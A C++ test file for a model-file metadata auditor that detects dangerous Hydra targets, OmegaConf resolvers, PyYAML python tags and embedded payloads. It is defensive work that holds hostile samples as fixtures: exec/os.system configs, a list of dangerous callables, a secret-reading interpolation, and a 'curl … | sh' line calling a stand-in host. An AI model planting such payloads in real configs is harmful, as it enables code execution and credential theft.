// The config rules (STG-CFG-*) on planted files: Hydra targets in JSON and
// YAML configs held in metadata values, nested as strings inside strings,
// with _partial_ / _call_ tricks and aliases of dangerous callables;
// OmegaConf resolver interpolations; payloads and scripts in config leaves;
// hostile values (huge, deeply nested) that must finish in bounded time with
// the bound reported; and clean files carrying the metadata mainstream
// writers put there, which must give no finding at low or above.
#include <catch2/catch.hpp>

#include <chrono>
#include <string>
#include <vector>

#include "audit_fixtures.hpp"
#include "stguard/audit.hpp"
#include "stguard/escape.hpp"

using namespace stguard::test;
using namespace stguard::test::audit_fixtures;

namespace {

using Metadata = std::vector<std::pair<std::string, std::string>>;

stguard::audit::AuditReport audit_metadata(const Metadata& metadata) {
  return audit_of(build_file({{"w", "F32", {2}, f32_bytes({1.0F, 2.0F})}}, metadata));
}

stguard::audit::AuditReport audit_value(const std::string& key, const std::string& value) {
  return audit_metadata({{"format", "pt"}, {key, value}});
}

std::vector<const Finding*> findings_of(const stguard::audit::AuditReport& report, Rule rule) {
  std::vector<const Finding*> out;
  for (const Finding& finding : report.findings) {
    if (finding.rule == rule) out.push_back(&finding);
  }
  return out;
}

const Finding* finding_at(const stguard::audit::AuditReport& report, Rule rule, const std::string& path) {
  for (const Finding& finding : report.findings) {
    if (finding.rule == rule && finding.json_path == path) return &finding;
  }
  return nullptr;
}

// The finding of `rule` at `path`, which the test requires to be there.
const Finding& require_finding(const stguard::audit::AuditReport& report, Rule rule, const std::string& path) {
  const Finding* found = finding_at(report, rule, path);
  REQUIRE(found != nullptr);
  return *found;
}

std::string all_findings(const stguard::audit::AuditReport& report) {
  std::string out;
  for (const Finding& finding : report.findings) {
    out += std::string(stguard::audit::rule_id(finding.rule)) + " " +
           std::string(stguard::audit::severity_name(finding.severity)) + " [" + finding.json_path + "] " +
           finding.message + "\n";
  }
  return out;
}

// A JSON string literal holding `text` (for configs nested inside strings).
std::string json_string(const std::string& text) { return "\"" + stguard::escape_json(text) + "\""; }

}  // namespace

TEST_CASE("config: a FlexTok-style config with _target_: builtins.exec", "[audit][config]") {
  const auto report = audit_value(
      "config", R"j({"model": {"_target_": "builtins.exec", "_args_": ["import os; os.system('id')"]},)j"
                R"j( "encoder": {"_target_": "flextok.model.Encoder", "dim": 512}})j");
  INFO(all_findings(report));
  const Finding& exec = require_finding(report, Rule::config_dangerous_target, "model._target_");
  CHECK(exec.severity == Severity::high);
  CHECK(exec.metadata_key == "config");
  CHECK(exec.message.find("builtins.exec") != std::string::npos);
  CHECK(exec.message.find("code execution") != std::string::npos);
  const Finding& encoder = require_finding(report, Rule::config_target, "encoder._target_");
  CHECK(encoder.severity == Severity::info);
  CHECK(encoder.message.find("flextok.model.Encoder") != std::string::npos);
  const Finding& script = require_finding(report, Rule::metadata_foreign_payload, "model._args_[0]");
  CHECK(script.message.find("Python source") != std::string::npos);
  CHECK(findings_of(report, Rule::config_dangerous_target).size() == 1);
}

TEST_CASE("config: aliases and spellings of dangerous callables are high", "[audit][config]") {
  const std::vector<std::string> dangerous{
      "eval", "exec", "compile", "__import__", "getattr", "builtins.eval", "__builtin__.eval", "__builtins__.exec",
      " builtins . eval ", "BUILTINS.EVAL", "builtins.eval\u200b", "builtins:eval", "os.system", "posix.system",
      "nt.system", "os.popen", "os.execv", "os.spawnl", "subprocess.Popen", "subprocess.run", "importlib.import_module",
      "pickle.loads", "_pickle.load", "dill.loads", "marshal.loads", "torch.load", "runpy.run_path", "shutil.rmtree",
      "socket.socket", "urllib.request.urlopen", "requests.get", "ctypes.CDLL", "code.interact", "pty.spawn",
      "sys.modules.os.system", "object.__subclasses__", "hydra.utils.get_method", "pydoc.locate", "builtins.open",
      "yaml.unsafe_load", "torch.hub.load", "timeit.timeit", "os.system()"};
  const std::vector<std::string> benign{"torch.nn.Linear", "transformers.AutoModel.from_pretrained", "os.path.join",
                                        "builtins.dict", "__main__.MyModel", "numpy.load", "pathlib.Path",
                                        "codecs_helper.Thing", "osmosis.Model"};
  for (const bool expect_dangerous : {true, false}) {
    for (const std::string& callable : expect_dangerous ? dangerous : benign) {
      INFO(callable);
      const auto report = audit_value("cfg", R"({"fn": {"_target_": )" + json_string(callable) + "}}");
      INFO(all_findings(report));
      const Rule expected = expect_dangerous ? Rule::config_dangerous_target : Rule::config_target;
      const Finding& finding = require_finding(report, expected, "fn._target_");
      CHECK(finding.severity == (expect_dangerous ? Severity::high : Severity::info));
      CHECK(finding.message.find(stguard::escape_for_display(callable)) != std::string::npos);
      // One directive, one config finding (a hidden character in the value is reported apart, as info).
      CHECK(findings_of(report, expected).size() == 1);
    }
  }
}

TEST_CASE("config: numpy.load is high only with allow_pickle", "[audit][config]") {
  const auto report = audit_value("cfg", R"({"data": {"_target_": "numpy.load", "allow_pickle": true}})");
  INFO(all_findings(report));
  const Finding& finding = require_finding(report, Rule::config_dangerous_target, "data._target_");
  CHECK(finding.message.find("allow_pickle") != std::string::npos);
}

TEST_CASE("config: _partial_, _call_, repeated keys and computed targets", "[audit][config]") {
  SECTION("_partial_ before _target_: the loader gets os.system to call later") {
    const auto report = audit_value("cfg", R"({"hook": {"_partial_": true, "_target_": "subprocess.run"}})");
    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "hook._target_");
    CHECK(finding.message.find("_partial_ is true") != std::string::npos);
  }
  SECTION("_call_: false still imports and returns the callable") {
    const auto report = audit_value("cfg", R"({"_target_": "os.system", "_call_": false})");
    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "_target_");
    CHECK(finding.message.find("_call_ is false") != std::string::npos);
  }
  SECTION("functools.partial around a name resolver") {
    const auto report = audit_value(
        "cfg", R"({"f": {"_target_": "functools.partial", "_args_": [{"_target_": "hydra.utils.get_method", "path": "os.system"}]}})");
    INFO(all_findings(report));
    CHECK(finding_at(report, Rule::config_target, "f._target_") != nullptr);
    CHECK(finding_at(report, Rule::config_dangerous_target, "f._args_[0]._target_") != nullptr);
  }
  SECTION("a repeated _target_: Python's json keeps the last, both are reported") {
    const auto report = audit_value("cfg", R"({"_target_": "torch.nn.Linear", "_target_": "os.system"})");
    INFO(all_findings(report));
    CHECK(findings_of(report, Rule::config_dangerous_target).size() == 1);
    CHECK(findings_of(report, Rule::config_target).size() == 1);
  }
  SECTION("a target computed by interpolation cannot be checked: high") {
    const auto report = audit_value("cfg", R"({"name": "os.system", "run": {"_target_": "${name}"}})");
    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "run._target_");
    CHECK(finding.message.find("interpolation") != std::string::npos);
  }
  SECTION("the __metadata__ block itself as a config") {
    const auto report = audit_metadata({{"_target_", "builtins.exec"}, {"_args_", "print(1)"}, {"_partial_", "true"}});
    INFO(all_findings(report));
    const auto dangerous = findings_of(report, Rule::config_dangerous_target);
    REQUIRE(dangerous.size() == 1);
    CHECK(dangerous[0]->metadata_key == "_target_");
    CHECK(dangerous[0]->json_path.empty());
    CHECK(dangerous[0]->message.find("_partial_ is true") != std::string::npos);
  }
  SECTION("jsonargparse class_path") {
    const auto report = audit_value("cfg", R"({"model": {"class_path": "subprocess.Popen", "init_args": {}}})");
    CHECK(finding_at(report, Rule::config_dangerous_target, "model.class_path") != nullptr);
  }
  SECTION("arrays and odd keys in paths") {
    const auto report =
        audit_value("cfg", R"({"model": {"layers": [{"a": 1}, {"b": 2}, {"_target_": "os.system"}], "x.y": {"_target_": "eval"}}})");
    INFO(all_findings(report));
    CHECK(finding_at(report, Rule::config_dangerous_target, "model.layers[2]._target_") != nullptr);
    CHECK(finding_at(report, Rule::config_dangerous_target, "model[\"x.y\"]._target_") != nullptr);
  }
}

TEST_CASE("config: JSON nested in strings inside strings", "[audit][config]") {
  const std::string inner = R"({"_target_": "os.system", "command": "id"})";
  SECTION("a string value holding JSON continues the path") {
    const auto report = audit_value("cfg", "{\"model\": " + json_string(inner) + "}");
    INFO(all_findings(report));
    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "model._target_");
    CHECK(finding.message.find("decoded from a string 1 level") != std::string::npos);
  }
  SECTION("the metadata value is a JSON string literal holding JSON") {
    const auto report = audit_value("cfg", json_string(inner));
    CHECK(finding_at(report, Rule::config_dangerous_target, "_target_") != nullptr);
  }
  SECTION("four levels are decoded; a fifth is reported as beyond the bounds") {
    std::string text = inner;
    for (int level = 0; level < 4; ++level) text = "{\"k\": " + json_string(text) + "}";
    auto report = audit_value("cfg", text);
    INFO(all_findings(report));
    CHECK(finding_at(report, Rule::config_dangerous_target, "k.k.k.k._target_") != nullptr);
    CHECK(findings_of(report, Rule::config_scan_incomplete).empty());
    text = "{\"k\": " + json_string(text) + "}";
    report = audit_value("cfg", text);
    INFO(all_findings(report));
    CHECK(findings_of(report, Rule::config_dangerous_target).empty());
    const auto incomplete = findings_of(report, Rule::config_scan_incomplete);
    REQUIRE(incomplete.size() == 1);
    CHECK(incomplete[0]->severity == Severity::medium);
    CHECK(incomplete[0]->json_path == "k.k.k.k.k");
  }
}

TEST_CASE("config: YAML configs", "[audit][config]") {
  SECTION("block YAML with targets and a script argument") {
    const auto report = audit_value("hydra_config",
                                    "model:\n  _target_: builtins.exec\n  _args_:\n    - \"__import__('os').system('id')\"\n"
                                    "layers:\n  - _target_: torch.nn.ReLU\n  - {_target_: os.system, _partial_: true}\n");
    INFO(all_findings(report));
    CHECK(finding_at(report, Rule::config_dangerous_target, "model._target_") != nullptr);
    CHECK(finding_at(report, Rule::config_target, "layers[0]._target_") != nullptr);
    const Finding& partial = require_finding(report, Rule::config_dangerous_target, "layers[1]._target_");
    CHECK(partial.message.find("_partial_ is true") != std::string::npos);
    CHECK(finding_at(report, Rule::metadata_foreign_payload, "model._args_[0]") != nullptr);
  }
  SECTION("interpolations in YAML scalars") {
    const auto report = audit_value("cfg", "data:\n  root: ${oc.env:HOME}/data\n  size: ${model.dim}\n");
    INFO(all_findings(report));
    CHECK(finding_at(report, Rule::config_resolver_interpolation, "data.root") != nullptr);
    CHECK(finding_at(report, Rule::config_resolver_interpolation, "data.size") == nullptr);
  }
  SECTION("one line of YAML") {
    const auto report = audit_value("cfg", "_target_: builtins.exec");
    CHECK(finding_at(report, Rule::config_dangerous_target, "_target_") != nullptr);
  }
  SECTION("a flow mapping that is not JSON") {
    const auto report = audit_value("cfg", "{_target_: 'posix.system', command: id}");
    CHECK(finding_at(report, Rule::config_dangerous_target, "_target_") != nullptr);
  }
  SECTION("YAML in a JSON string") {
    const auto report = audit_value("cfg", "{\"yaml\": " + json_string("a: 1\nrun:\n  _target_: os.system\n") + "}");
    INFO(all_findings(report));
    CHECK(finding_at(report, Rule::config_dangerous_target, "yaml.run._target_") != nullptr);
  }
  SECTION("a _target_ given by a YAML alias can name anything: high") {
    const auto report = audit_value("cfg", "name: &fn os.system\nrun:\n  _target_: *fn\n");
    INFO(all_findings(report));
    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "run._target_");
    CHECK(finding.message.find("alias *fn") != std::string::npos);
  }
  SECTION("PyYAML python/ tags") {
    auto report = audit_value("cfg", "!!python/object/apply:os.system [\"id\"]");
    INFO(all_findings(report));
    auto tags = findings_of(report, Rule::config_yaml_python_tag);
    REQUIRE(tags.size() == 1);
    CHECK(tags[0]->severity == Severity::high);
    CHECK(tags[0]->evidence.find("python/object/apply:os.system") != std::string::npos);
    report = audit_value("cfg", "model:\n  loader: !!python/name:pickle.loads\n");
    CHECK(finding_at(report, Rule::config_yaml_python_tag, "model.loader") != nullptr);
  }
  SECTION("anchors and aliases are not expanded") {
    std::string yaml = "a: &a [\"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\"]\n";
    for (char c = 'b'; c <= 'j'; ++c) {
      yaml += std::string(1, c) + ": &" + std::string(1, c) + " [";
      for (int i = 0; i < 9; ++i) yaml += std::string(i ? ", " : "") + "*" + std::string(1, static_cast<char>(c - 1));
      yaml += "]\n";
    }
    yaml += "run:\n  _target_: os.system\n";
    const auto report = audit_value("cfg", yaml);
    INFO(all_findings(report));
    CHECK(finding_at(report, Rule::config_dangerous_target, "run._target_") != nullptr);
    CHECK(findings_of(report, Rule::config_scan_incomplete).empty());
  }
}

TEST_CASE("config: OmegaConf resolver interpolations", "[audit][config]") {
  const auto report = audit_value(
      "cfg", R"({"data": {"root": "${oc.env:HOME}/data"}, "x": "${eval:'__import__(\"os\")'}", "y": "${model.dim}",)"
             R"( "z": "outputs/${now:%Y-%m-%d}", "w": "\\${oc.env:NOT_ME}", "v": "${ oc.decode:${x}}", "u": "${my_resolver:1}"})");
  INFO(all_findings(report));
  const Finding& env = require_finding(report, Rule::config_resolver_interpolation, "data.root");
  CHECK(env.severity == Severity::medium);
  CHECK(env.message.find("environment") != std::string::npos);
  const Finding& eval = require_finding(report, Rule::config_resolver_interpolation, "x");
  CHECK(eval.severity == Severity::medium);
  CHECK(eval.message.find("evaluates code") != std::string::npos);
  CHECK(finding_at(report, Rule::config_resolver_interpolation, "y") == nullptr);
  const Finding& now = require_finding(report, Rule::config_resolver_interpolation, "z");
  CHECK(now.severity == Severity::info);
  CHECK(finding_at(report, Rule::config_resolver_interpolation, "w") == nullptr);
  CHECK(finding_at(report, Rule::config_resolver_interpolation, "v") != nullptr);
  CHECK(finding_at(report, Rule::config_resolver_interpolation, "u") != nullptr);

  const auto plain = audit_value("cache_dir", "${oc.env:AWS_SECRET_ACCESS_KEY}");
  const Finding& top = require_finding(plain, Rule::config_resolver_interpolation, "");
  CHECK(top.metadata_key == "cache_dir");
  CHECK(top.severity == Severity::medium);
}

// A real stored ZIP (one entry, archive/data.pkl, a five-byte pickle), base64: a truncated local
// header is not an archive and is not reported.
constexpr const char* kZipBase64 =
    "UEsDBBQAAAAAAM1MgV13jqRBBQAAAAUAAAAQAAAAYXJjaGl2ZS9kYXRhLnBrbIAESwEuUEsBAhQDFAAAAAAAzUyBXXeOpEEFAAAABQAAABAAAAAAAAAAAAAAAIABAAAAAGFyY2hpdmUvZGF0YS5wa2xQSwUGAAAAAAEAAQA+AAAAMwAAAAAA";

TEST_CASE("config: payloads and shell commands in config leaves use the foreign-payload rule", "[audit][config]") {
  const auto report = audit_value(
      "cfg", std::string(R"({"blob": ")") + kZipBase64 + R"(", "hook": {"cmd": "curl -s http://x.example/p.sh | sh"}})");
  INFO(all_findings(report));
  const Finding& zip = require_finding(report, Rule::metadata_foreign_payload, "blob");
  CHECK(zip.severity == Severity::high);
  const Finding& shell = require_finding(report, Rule::metadata_foreign_payload, "hook.cmd");
  CHECK(shell.message.find("shell command") != std::string::npos);
  // Shell words glued to longer words are prose, not commands.
  const auto prose = audit_value("cfg", R"({"doc": "input | shape (B, T); see /bin/shared and refresh -c 3"})");
  INFO(all_findings(prose));
  CHECK(findings_of(prose, Rule::metadata_foreign_payload).empty());
  // A value that is itself a payload is reported once, by the metadata pass.
  const auto whole = audit_value("blob", kZipBase64);
  CHECK(findings_of(whole, Rule::metadata_foreign_payload).size() == 1);
}

TEST_CASE("config: hostile values finish in bounded time with the bound reported", "[audit][config][hostile]") {
  using Clock = std::chrono::steady_clock;
  SECTION("100,000 nested JSON arrays and objects") {
    for (const auto& [open, close] : {std::pair{"[", "]"}, std::pair{"{\"a\":", "}"}}) {
      std::string value;
      for (int i = 0; i < 100000; ++i) value += open;
      for (int i = 0; i < 100000; ++i) value += close;
      const auto start = Clock::now();
      const auto report = audit_value("cfg", value);
      CHECK(Clock::now() - start < std::chrono::seconds(20));
      INFO(all_findings(report).substr(0, 2000));
      const auto incomplete = findings_of(report, Rule::config_scan_incomplete);
      REQUIRE(incomplete.size() == 1);
      CHECK(incomplete[0]->message.find("nesting deeper than 128") != std::string::npos);
    }
  }
  SECTION("100,000 nested YAML flow sequences, unterminated") {
    const auto start = Clock::now();
    // Not JSON-like (a key first), so libyaml parses it.
    const auto report = audit_value("cfg", "run: {_target_: os.system}\nx: " + std::string(100000, '[') + "\n");
    CHECK(Clock::now() - start < std::chrono::seconds(20));
    INFO(all_findings(report).substr(0, 2000));
    CHECK(finding_at(report, Rule::config_dangerous_target, "run._target_") != nullptr);
    const auto incomplete = findings_of(report, Rule::config_scan_incomplete);
    REQUIRE(incomplete.size() == 1);
    CHECK(incomplete[0]->message.find("YAML") != std::string::npos);
  }
  SECTION("a 16 MB JSON config is scanned to its end") {
    std::string value = "{\"items\": [";
    const std::string item = R"({"name": "layer", "dim": 4096, "act": "gelu"},)";
    while (value.size() < 16'000'000) value += item;
    value += R"({"_target_": "os.system"}]})";
    const auto start = Clock::now();
    const auto report = audit_value("cfg", value);
    CHECK(Clock::now() - start < std::chrono::seconds(30));
    INFO(all_findings(report).substr(0, 2000));
    REQUIRE(findings_of(report, Rule::config_dangerous_target).size() == 1);
    CHECK(findings_of(report, Rule::config_dangerous_target)[0]->json_path.starts_with("items["));
    CHECK(findings_of(report, Rule::config_scan_incomplete).empty());
  }
  SECTION("a config over 16 MiB is not parsed, and says so") {
    std::string value = "{\"pad\": \"" + std::string(17u << 20U, 'x') + "\", \"_target_\": \"os.system\"}";
    const auto report = audit_value("cfg", value);
    const auto incomplete = findings_of(report, Rule::config_scan_incomplete);
    REQUIRE(incomplete.size() == 1);
    CHECK(incomplete[0]->message.find("larger than") != std::string::npos);
  }
  SECTION("a million small JSON strings holding JSON spend the document budget") {
    std::string value = "[";
    while (value.size() < 4'000'000) value += R"("[1]",)";
    value += "1]";
    const auto start = Clock::now();
    const auto report = audit_value("cfg", value);
    CHECK(Clock::now() - start < std::chrono::seconds(20));
    const auto incomplete = findings_of(report, Rule::config_scan_incomplete);
    REQUIRE(incomplete.size() == 1);
    CHECK(incomplete[0]->message.find("documents in one value") != std::string::npos);
  }
}

TEST_CASE("config: clean files of mainstream writers give nothing at low or above", "[audit][config][clean]") {
  const std::vector<Metadata> clean{
      {{"format", "pt"}},
      {{"format", "mlx"}},
      {{"format", "np"}},
      // HF Trainer's training arguments, stored as JSON by some exporters
      {{"format", "pt"},
       {"training_args",
        R"({"output_dir": "./results", "num_train_epochs": 3, "per_device_train_batch_size": 8, "learning_rate": 5e-05,)"
        R"( "lr_scheduler_type": "linear", "warmup_steps": 500, "weight_decay": 0.01, "logging_dir": "./logs",)"
        R"( "report_to": ["tensorboard"], "fp16": true, "optim": "adamw_torch", "seed": 42, "push_to_hub": false,)"
        R"( "hub_model_id": null, "deepspeed": null, "evaluation_strategy": "steps", "run_name": "./results"})"}},
      // PEFT adapter_config.json-like settings
      {{"format", "pt"},
       {"adapter_config",
        R"({"peft_type": "LORA", "task_type": "CAUSAL_LM", "base_model_name_or_path": "meta-llama/Llama-2-7b-hf",)"
        R"( "r": 8, "lora_alpha": 16, "lora_dropout": 0.05, "bias": "none", "target_modules": ["q_proj", "v_proj"],)"
        R"( "modules_to_save": null, "inference_mode": true, "fan_in_fan_out": false, "init_lora_weights": true})"}},
      // kohya-ss sd-scripts LoRA metadata
      {{"ss_network_module", "networks.lora"},
       {"ss_network_dim", "32"},
       {"ss_network_alpha", "16"},
       {"ss_network_args", R"({"conv_dim": "8", "conv_alpha": "1", "algo": "lora", "preset": "attn-mlp"})"},
       {"ss_tag_frequency", R"({"10_mychar": {"1girl": 50, "solo": 41, "smile": 12, "looking at viewer": 9}})"},
       {"ss_dataset_dirs", R"({"10_mychar": {"n_repeats": 10, "img_count": 50}})"},
       {"ss_datasets",
        R"([{"is_dreambooth": true, "batch_size_per_device": 2, "num_train_images": 500, "resolution": [512, 512],)"
        R"( "enable_bucket": true, "subsets": [{"img_count": 50, "num_repeats": 10, "color_aug": false,)"
        R"( "image_dir": "10_mychar", "class_tokens": "mychar", "caption_extension": ".txt"}]}])"},
       {"ss_bucket_info", R"({"buckets": {"0": {"resolution": [512, 512], "count": 500}}, "mean_img_ar_error": 0.0})"},
       {"ss_optimizer", "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.01)"},
       {"ss_lr_scheduler", "cosine_with_restarts"},
       {"ss_sd_model_name", "v1-5-pruned-emaonly.safetensors"},
       {"ss_training_comment", "Trigger word: mychar\nCall model.eval() before use; see https://example.org/x"},
       {"ss_output_name", "mychar_v1"},
       {"sshs_model_hash", "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"},
       {"modelspec.sai_model_spec", "1.0.0"},
       {"modelspec.architecture", "stable-diffusion-v1/lora"},
       {"modelspec.title", "mychar_v1"},
       {"modelspec.date", "2024-05-01T12:00:00"}},
      // diffusers / ComfyUI style
      {{"format", "pt"},
       {"prompt",
        R"({"3": {"class_type": "KSampler", "inputs": {"seed": 1, "steps": 20, "model": ["4", 0]}},)"
        R"( "4": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": "v1-5.safetensors"}}})"},
       {"workflow", R"({"last_node_id": 9, "nodes": [{"id": 3, "type": "KSampler", "widgets_values": [1, "fixed"]}]})"}},
      // a model card-like YAML value and a Hydra run config with its built-in resolvers
      {{"format", "pt"},
       {"card", "license: mit\ntags:\n  - lora\n  - text-to-image\nbase_model: runwayml/stable-diffusion-v1-5\n"},
       {"hydra_config",
        "model:\n  _target_: mypkg.models.UNet\n  channels: 64\ntrainer:\n  max_epochs: 10\n"
        "hydra:\n  run:\n    dir: outputs/${now:%Y-%m-%d}/${now:%H-%M-%S}\n  job:\n    name: ${hydra:job.name}\n"}},
      {{"format", "pt"}, {"note", "[WIP] early checkpoint: not final"}, {"config", "{not json at all"}},
  };
  for (std::size_t i = 0; i < clean.size(); ++i) {
    INFO("clean metadata set " << i);
    const auto report = audit_metadata(clean[i]);
    INFO(all_findings(report));
    CHECK(report.count_at_least(Severity::low) == 0);
  }
}
